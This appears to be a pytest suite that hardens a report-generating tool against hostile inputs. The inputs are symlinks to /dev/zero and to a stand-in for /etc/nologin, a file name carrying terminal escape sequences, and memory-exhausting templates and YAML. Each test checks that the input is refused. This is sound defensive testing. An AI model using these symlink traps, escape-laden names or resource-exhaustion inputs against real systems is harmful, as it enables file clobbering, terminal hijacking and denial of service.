def test_commentary_linked_to_dev_zero_is_refused_without_filling_memory(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    (root / "commentary").mkdir()
    (root / "commentary" / "2023-24-Q2.yaml").symlink_to("/dev/zero")
    result = run_cli(["validate", "Q2-2023"], root, memory=2**31)
    assert result.stdout.splitlines() == [
        "commentary/2023-24-Q2.yaml: expected a regular file; got a device",
        "reportgen: 1 error, 0 warnings",
    ]


def test_a_wide_file_past_half_a_million_cells_is_refused_as_it_is_read(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    header = "indicator," + ",".join(f"Q{1 + i % 4} {2000 + i // 4}" for i in range(999))
    row = "visits," + ",".join("1" for _ in range(999))
    (root / "data" / "long.csv").write_text("\n".join([header] + [row] * 1000) + "\n", encoding="utf-8")
    with pytest.raises(InputProblems) as info:
        load_project(root)
    assert [str(p) for p in info.value.problems] == [
        "data/long.csv: expected at most 500,000 cells; got more (at line 501)"
    ]


# -- 5. processes --


def test_a_build_killed_outright_while_charts_are_drawn_does_not_lock_out_the_next(tmp_path: Path) -> None:
    import os
    import signal

    root = example_copy(tmp_path)
    output = root / "output"
    child = subprocess.Popen(
        [sys.executable, "-m", "reportgen.cli", "build", "Q2-2023", "--no-cache", "--format", "pdf,docx"],
        cwd=root,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    started = time.monotonic()
    while child.poll() is None and time.monotonic() - started < 60:
        if output.is_dir() and any(p.name.startswith(".Q2-2023.stage-") for p in output.iterdir()):
            break  # locked, staged, and the workers are drawing
        time.sleep(0.005)
    workers = children_of(child.pid)
    assert child.poll() is None and workers, "the build finished before it could be killed"
    time.sleep(0.3)
    os.kill(child.pid, signal.SIGKILL)
    child.wait(timeout=10)
    paths = build(root, "Q2-2023", formats=("json",))  # at once: no orphan holds the lock
    assert paths == [output / "Q2-2023" / "report.json"]
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(alive(pid) for pid in workers):
        time.sleep(0.1)
    assert not any(alive(pid) for pid in workers)


def children_of(pid: int) -> list[int]:
    """Return the processes whose parent is ``pid``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(") ", 1)[1].split()
            except (OSError, IndexError):
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def alive(pid: int) -> bool:
    try:
        return (Path("/proc") / str(pid) / "stat").read_text().rsplit(") ", 1)[1][0] != "Z"
    except (OSError, IndexError):
        return False


# -- 6. the output folder --


def test_an_output_folder_that_is_a_link_is_refused_not_followed(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    target = tmp_path / "elsewhere"
    target.mkdir()
    (target / "keep.txt").write_text("someone else's folder\n", encoding="utf-8")
    link = tmp_path / "out"
    link.symlink_to(target)
    with pytest.raises(ReportgenError) as info:
        build(root, "Q2-2023", output=link, formats=("json",))
    assert str(info.value) == (
        f"expected an output folder at {link}; got a symbolic link to {target} (a build replaces the folder "
        "whole, so it never writes through a link: build with --output set to the folder itself)"
    )
    assert sorted(p.name for p in target.iterdir()) == ["keep.txt"] and link.is_symlink()


def test_a_shared_output_folder_keeps_its_owner_group_and_setgid_bit(tmp_path: Path) -> None:
    import grp
    import os

    others = [g for g in os.getgroups() if g != os.getegid()]
    if os.geteuid() == 0:
        others = [g.gr_gid for g in grp.getgrall() if g.gr_gid != 0][:1]
    if not others:
        pytest.skip("this user belongs to no second group to share the folder with")
    root = minimal_copy(tmp_path)
    out = tmp_path / "shared" / "Q2-2023"
    out.mkdir(parents=True)
    os.chown(out, -1, others[0])
    out.chmod(0o2770)
    before = out.stat()
    build(root, "Q2-2023", output=out, formats=("json",))
    after = out.stat()
    assert (after.st_uid, after.st_gid, oct(after.st_mode & 0o7777)) == (before.st_uid, others[0], "0o2770")
    assert (out / "report.json").stat().st_gid == others[0]  # setgid: new files join the group too


def test_the_lock_file_is_never_opened_through_a_link(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    out = tmp_path / "out" / "Q2-2023"
    out.parent.mkdir()
    victim = tmp_path / "nologin"  # as /etc/nologin would be, for a build run by root
    (out.parent / ".Q2-2023.lock").symlink_to(victim)
    with pytest.raises(ReportgenError) as info:
        build(root, "Q2-2023", output=out, formats=("json",))
    assert str(info.value) == (
        f"expected the lock {out.parent / '.Q2-2023.lock'} to be a plain file; got a symbolic link (remove it)"
    )
    assert not victim.exists() and not out.exists()


def test_an_output_folder_named_like_a_pattern_leaves_other_builds_staging_alone(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    parent = tmp_path / "out"
    staging_of_a = parent / ".a.stage-1234abcd"  # a build of out/a, running now
    staging_of_a.mkdir(parents=True)
    (staging_of_a / "report.json").write_text("{}", encoding="utf-8")
    build(root, "Q2-2023", output=parent / "[ab]", formats=("json",))
    assert (staging_of_a / "report.json").exists()
    assert sorted(p.name for p in (parent / "[ab]").iterdir()) == ["report.json"]


def test_files_saved_into_the_folder_during_a_build_are_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reportgen import publish

    root = minimal_copy(tmp_path)
    out = tmp_path / "out"
    build(root, "Q2-2023", output=out, formats=("json",))
    (out / "minutes.txt").write_text("first draft\n", encoding="utf-8")
    carry_over = publish._carry_over

    def officer_saves_meanwhile(*args: Any, **kwargs: Any) -> Any:
        carried = carry_over(*args, **kwargs)
        (out / "notes.txt").write_text("saved while the build ran\n", encoding="utf-8")
        replacement = out / ".minutes.txt.swp"  # as an editor saves: a new file renamed over the old
        replacement.write_text("second draft\n", encoding="utf-8")
        replacement.rename(out / "minutes.txt")
        return carried

    monkeypatch.setattr(publish, "_carry_over", officer_saves_meanwhile)
    build(root, "Q2-2023", output=out, formats=("json",))
    assert sorted(p.name for p in out.iterdir()) == ["minutes.txt", "notes.txt", "report.json"]
    assert (out / "notes.txt").read_text(encoding="utf-8") == "saved while the build ran\n"
    assert (out / "minutes.txt").read_text(encoding="utf-8") == "second draft\n"


def test_output_slash_is_refused_without_a_lock_at_the_root(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    with pytest.raises(ReportgenError) as info:
        build(root, "Q2-2023", output=Path("/"), formats=("json",))
    assert (
        str(info.value) == "expected an output folder inside another folder, such as output/Q2-2023; got '/'"
    )
    assert not Path("/..lock").exists()


# -- 7. the Word reference document --


def test_the_reference_documents_own_text_comments_and_properties_are_not_published(tmp_path: Path) -> None:
    import docx

    root = minimal_copy(tmp_path)
    house = docx.Document(str(ROOT / "templates" / "reference.docx"))
    paragraph = house.add_paragraph("SECRET BODY TEXT of the house template")
    house.add_comment(paragraph.runs[0], text="SECRET COMMENT", author="SECRET AUTHOR")
    house.sections[0].header.paragraphs[0].text = "SECRET HEADER"
    props = house.core_properties
    props.category, props.keywords, props.subject = "SECRET CATEGORY", "SECRET KEYWORDS", "SECRET SUBJECT"
    props.content_status, props.identifier, props.version = "SECRET STATUS", "SECRET ID", "SECRET VERSION"
    (root / "templates").mkdir()
    house.save(str(root / "templates" / "reference.docx"))
    (path,) = build(root, "Q2-2023", output=tmp_path / "out", formats=("docx",))
    with zipfile.ZipFile(path) as package:
        found = [name for name in package.namelist() if b"SECRET" in package.read(name)]
        assert found == [] and not any("comments" in name for name in package.namelist())
    out = docx.Document(str(path))
    assert out.styles["Heading 1"].font.color.rgb == house.styles["Heading 1"].font.color.rgb


def test_a_reference_document_linked_from_outside_the_project_is_refused(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    outside = tmp_path / "house.docx"
    shutil.copyfile(ROOT / "templates" / "reference.docx", outside)
    (root / "templates").mkdir()
    (root / "templates" / "reference.docx").symlink_to(outside)
    with pytest.raises(InputProblems) as info:
        load_project(root)
    assert [str(p) for p in info.value.problems] == [
        f"templates/reference.docx: expected a Word file inside the project; got a link to {outside}"
    ]


# -- 8. silent and noisy failures --


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("template_with_syntax_error.html.j2", "templates/report.html.j2:4: unexpected '}'"),
        ("indicator_template_divides_by_zero.yaml", "template for indicator visits: division by zero"),
        (
            "template_repeats_a_string_a_trillion_times.html.j2",
            "templates/report.html.j2:4: repeating str 1,000,000,000,000 times is refused (more than "
            "100,000 items)",
        ),
    ],
)
def test_validate_fails_a_project_whose_build_would_fail(tmp_path: Path, name: str, line: str) -> None:
    from reportgen.pipeline import validate

    outcome = validate(project_with(tmp_path, name), "Q2-2023")
    assert outcome.exit_code == 1
    assert outcome.lines() == [f"reportgen: error: {line}", "reportgen: 1 error, 0 warnings for 2023-24 Q2"]


def _disk_full(*_args: Any, **_kwargs: Any) -> None:
    import errno

    raise OSError(errno.ENOSPC, "No space left on device")


def _out_of_memory(*_args: Any, **_kwargs: Any) -> None:
    raise MemoryError


@pytest.mark.parametrize(
    ("fault", "message"),
    [
        (_disk_full, "Laying out the PDF could not write: No space left on device; nothing was written"),
        (_out_of_memory, "Laying out the PDF ran out of memory; nothing was written"),
    ],
)
def test_a_full_disk_or_no_memory_in_the_pdf_process_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fault: Any, message: str
) -> None:
    monkeypatch.setattr("reportgen.render.pdf.render_pdf", fault)  # the forked PDF worker sees it too
    with pytest.raises(ReportgenError) as info:
        build(minimal_copy(tmp_path), "Q2-2023", output=tmp_path / "out", formats=("pdf", "json"), workers=2)
    assert str(info.value) == message
    assert not (tmp_path / "out").exists()


def test_a_full_disk_while_writing_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reportgen.render.json.render_json", _disk_full)
    out = tmp_path / "out"
    with pytest.raises(ReportgenError) as info:
        build(minimal_copy(tmp_path), "Q2-2023", output=out, formats=("json",))
    assert str(info.value) == f"cannot write {out}: No space left on device"


def test_control_characters_in_a_file_name_are_one_line_and_never_reach_the_terminal(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    shutil.copyfile(root / "data" / "long.csv", root / "data" / "more\x1b]0;owned\x07\x1b[2J.csv")
    result = run_cli(["build", "Q2-2023", "--format", "json"], root)
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert result.stderr.splitlines() == [
        "data/more\\x1b]0;owned\\x07\\x1b[2J.csv: expected a file name of plain text; got the control character "
        "U+001B at character 10",
        "reportgen: 1 error; nothing was written",
    ]


def test_a_section_titled_summary_has_ids_of_its_own(tmp_path: Path) -> None:
    paths = build(
        project_with(tmp_path, "section_titled_summary.yaml"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("html",),
    )
    ids = re.findall(r'\sid="([^"]+)"', paths[0].read_text(encoding="utf-8"))
    assert len(ids) == len(set(ids))


def test_a_dollar_sign_in_a_comparator_label_is_printed_not_parsed_as_maths(tmp_path: Path) -> None:
    paths = build(
        project_with(tmp_path, "comparator_label_with_dollar_maths.yaml"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("html",),
    )
    assert "the $\\frac{1}{$ average of 88.0%" in paths[0].read_text(encoding="utf-8")


# The signal is sent from inside loading, so it lands there whatever the machine's speed.
SIGNAL_WHILE_LOADING = """
import os, sys, time
import reportgen.pipeline as pipeline
load, signum = pipeline.load_project, int(sys.argv[1])

def interrupted_load(root):
    os.kill(os.getpid(), signum)
    time.sleep(5)  # the handler runs here
    return load(root)

pipeline.load_project = interrupted_load
from reportgen.cli import main
sys.argv = ["reportgen", *sys.argv[2:]]
main()
"""


@pytest.mark.parametrize(
    ("signum", "said", "code"), [(2, "interrupted", 130), (15, "stopped by SIGTERM", 143)]
)
@pytest.mark.parametrize("command", ["validate", "build"])
def test_ctrl_c_and_sigterm_say_what_they_stopped(
    tmp_path: Path, signum: int, said: str, code: int, command: str
) -> None:
    result = subprocess.run(
        [sys.executable, "-c", SIGNAL_WHILE_LOADING, str(signum), command, "Q2-2023"],
        cwd=minimal_copy(tmp_path),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (result.returncode, result.stderr) == (code, f"reportgen: {said}; nothing was written\n")


# -- found by make fuzz: work bounded by what an input can ask for, not only by its size ---------


def test_a_template_looping_over_bounded_pieces_is_refused_at_a_bounded_length() -> None:
    # each piece is allowed (100,000 characters), but 100,000 of them would be 10 GB of text
    from reportgen.narrative import render_template

    source = "{% for i in range(10**5) %}{{ i|center(10**5) }}{% endfor %}"
    with pytest.raises(ReportgenError) as caught:
        render_template(source, {}, "x")
    assert str(caught.value) == "template for indicator x: a template writing more than 100,000 characters is refused"


def test_a_template_listing_a_huge_string_is_refused_before_it_is_made() -> None:
    from reportgen.narrative import render_template

    with pytest.raises(ReportgenError) as caught:
        render_template("{{ ('x' * 10**6)|list }}", {}, "x")
    assert str(caught.value) == (
        "template for indicator x: repeating str 1,000,000 times is refused (more than 100,000 items)"
    )


def test_a_yaml_file_of_too_many_values_is_refused_before_they_are_composed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 124,000 tiny values in 0.19 MB took 0.8 s to compose before the count stopped it
    import yaml

    from reportgen import yaml_source

    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("composed a file already known to be too big")

    monkeypatch.setattr(yaml, "compose", never)
    path = tmp_path / "reportgen.yaml"
    path.write_text("authority: A\ntitle: \r" + "=:\r" * 62_000 + "\n", encoding="utf-8")
    document, problems = yaml_source.load_yaml(path, "reportgen.yaml")
    assert document is None
    assert [str(p) for p in problems] == [
        "reportgen.yaml: expected a YAML file of at most 50,000 values (aliases expanded); got more"
    ]


def test_a_data_file_wrong_on_every_row_builds_no_rows_past_where_checking_stops(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 52,000 rows of "-0," were each made into a row before the first hundred problems stopped it
    from reportgen import data

    made: list[int] = []
    real = data._Row.__init__

    def counting(self: object, *args: object, **kwargs: object) -> None:
        made.append(1)
        real(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(data._Row, "__init__", counting)
    root = tmp_path / "p"
    shutil.copytree(ROOT / "tests" / "fixtures" / "minimal", root)
    (root / "data" / "long.csv").write_text(
        "indicator,series,period,value\n" + "-0,\n" * 52_000, encoding="utf-8"
    )
    with pytest.raises(InputProblems) as caught:
        load_project(root)
    assert len(caught.value.problems) == data.MAX_PROBLEMS_PER_FILE + 1
    assert str(caught.value.problems[-1]) == (
        "data/long.csv:101: expected at most 100 problems in a file; stopped checking data/long.csv here "
        "(fix these and run again)"
    )
    assert len(made) <= data.MAX_PROBLEMS_PER_FILE + 1


def test_a_base_60_whole_number_too_long_to_print_is_described_not_printed(tmp_path: Path) -> None:
    # YAML 1.1 reads 1:1:1:... as a whole number in base 60; Python refuses to print one of
    # over 4,300 digits, which turned a one-line error into a traceback (found by make fuzz)
    from reportgen.indicators import load_sections

    (tmp_path / "indicators").mkdir()
    (tmp_path / "indicators" / "x.yaml").write_text(
        "section: S\nindicators:\n  - id: x\n    title: " + "1" + ":1" * 3000 + "\n    unit: count\n"
        "    polarity: lower\n    basis: snapshot\n    frequency: quarterly\n",
        encoding="utf-8",
    )
    with pytest.raises(InputProblems) as caught:
        load_sections(tmp_path, [])
    assert [str(p) for p in caught.value.problems] == [
        "indicators/x.yaml:4: title: expected text; got a whole number of about 5,335 digits"
    ]
